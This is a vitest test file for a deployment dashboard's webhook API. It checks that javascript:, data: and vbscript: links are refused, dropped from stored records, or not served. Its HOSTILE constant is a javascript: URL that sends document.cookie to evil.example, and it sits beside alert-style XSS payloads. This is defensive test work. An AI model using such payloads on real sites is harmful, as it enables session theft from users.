import { createHmac, randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { Writable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { createApiToken } from '@stride/db';
import { parseStrideConfig } from '@stride/shared/config';
import { createTestDatabase, type TestDatabase } from '@stride/testkit/database';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../app.ts';
import { loadApiConfig } from '../../config.ts';

// A link stored from a webhook is shown on the dashboard: only http(s) may get in.
const fixtures = fileURLToPath(new URL('../../../../../tests/fixtures/recorded/', import.meta.url));
const load = (name: string) => JSON.parse(readFileSync(`${fixtures}${name}`, 'utf8'));
const ANTS = 'panjf2000/ants';
const REPO = 'acme/deployer';
const SECRET = 'webhook-secret-for-link-tests';
const HOSTILE = 'javascript:fetch("https://evil.example/?"+document.cookie)';

describe('webhooks accept only http(s) links', () => {
  let t: TestDatabase;
  let app: FastifyInstance;
  let token: string;
  const lines: string[] = [];
  const post = (url: string, body: unknown) =>
    app.inject({
      method: 'POST',
      url,
      headers: { authorization: `Bearer ${token}` },
      payload: body as object,
    });
  const count = async (table: 'deployments' | 'incidents' | 'webhook_deliveries') =>
    Number(
      (
        await t.db
          .selectFrom(table)
          .select(({ fn }) => fn.countAll<string>().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );

  beforeAll(async () => {
    t = await createTestDatabase();
    const stream = new Writable({
      write(chunk, _encoding, done) {
        lines.push(String(chunk));
        done();
      },
    });
    app = await buildApp({
      db: t.db,
      config: loadApiConfig({ GITHUB_WEBHOOK_SECRET: SECRET }),
      strideConfig: parseStrideConfig({ github: { repositories: [ANTS] } }),
      logger: { level: 'info', stream },
    });
    token = (await createApiToken(t.db, { name: 'ci', role: 'webhook', scope: 'ci' })).token;
  });
  afterAll(async () => {
    await app?.close();
    await t?.destroy();
  });

  const deployment = (url: string, eventId = randomUUID()) => ({
    eventId,
    repository: REPO,
    environment: 'production',
    status: 'success',
    finishedAt: '2025-03-01T10:00:00Z',
    url,
  });

  it.each([HOSTILE, 'JavaScript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)'])(
    'POST /api/webhooks/deployments with url %j is a 400 naming url; nothing is written',
    async (url) => {
      const res = await post('/api/webhooks/deployments', deployment(url));
      expect(res.statusCode).toBe(400);
      expect(res.json()).toEqual({
        error: { code: 'invalid_parameter', message: expect.stringMatching(/^url: /) },
      });
      expect(await count('deployments')).toBe(0);
      expect(await count('webhook_deliveries')).toBe(0);
    },
  );

  it('POST /api/webhooks/incidents with a javascript: url is a 400 naming url', async () => {
    const res = await post('/api/webhooks/incidents', {
      eventId: randomUUID(),
      title: 'Checkout down',
      startedAt: '2025-03-01T11:00:00Z',
      // A well-formed URI (it passes `format: uri`): refused for its scheme.
      url: 'javascript:alert(1)',
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toEqual({
      code: 'invalid_parameter',
      message: 'url: must be an http or https URL',
    });
    expect(await count('incidents')).toBe(0);
  });

  it('stores an https link as sent', async () => {
    const res = await post('/api/webhooks/deployments', deployment('https://ci.example.com/runs/42'));
    expect(res.statusCode).toBe(202);
    const row = await t.db.selectFrom('deployments').select('url').executeTakeFirstOrThrow();
    expect(row.url).toBe('https://ci.example.com/runs/42');
  });

  it('a GitHub delivery keeps the PR without its javascript: link and logs the scheme, not the value', async () => {
    const pull = { ...load('github_pulls.json')[ANTS][0], html_url: HOSTILE };
    const repository = load('github_repos.json')[ANTS];
    const body = JSON.stringify({ action: 'opened', pull_request: pull, repository });
    const res = await app.inject({
      method: 'POST',
      url: '/api/webhooks/github',
      headers: {
        'content-type': 'application/json',
        'x-github-event': 'pull_request',
        'x-github-delivery': randomUUID(),
        'x-hub-signature-256': `sha256=${createHmac('sha256', SECRET).update(body).digest('hex')}`,
      },
      payload: body,
    });
    expect(res.statusCode, res.body).toBe(202);
    const row = await t.db
      .selectFrom('pull_requests')
      .select(['external_id', 'html_url'])
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ external_id: String(pull.id), html_url: null });
    const warning = lines
      .map((l) => JSON.parse(l))
      .find((l) => l.msg === 'dropped links that are not http(s)');
    expect(warning).toMatchObject({
      object: 'pull_request',
      links: [{ field: 'html_url', scheme: 'javascript' }],
    });
    expect(lines.join('')).not.toContain('document.cookie');
  });

  it('a link stored before links were checked is not served: null in JSON, empty in CSV', async () => {
    await post('/api/webhooks/deployments', deployment('https://ci.example.com/runs/43'));
    await t.db.updateTable('deployments').set({ url: HOSTILE }).execute();
    const period = 'from=2025-03-01&to=2025-03-02';
    const json = await app.inject({ url: `/api/deployments?${period}` });
    expect(json.statusCode, json.body).toBe(200);
    const items = json.json().items as { url: string | null }[];
    expect(items.length).toBeGreaterThan(0);
    expect(items.map((d) => d.url)).toEqual(items.map(() => null));
    const csv = await app.inject({ url: `/api/deployments.csv?${period}` });
    expect(csv.statusCode).toBe(200);
    expect(csv.body).not.toContain('javascript');
  });
});
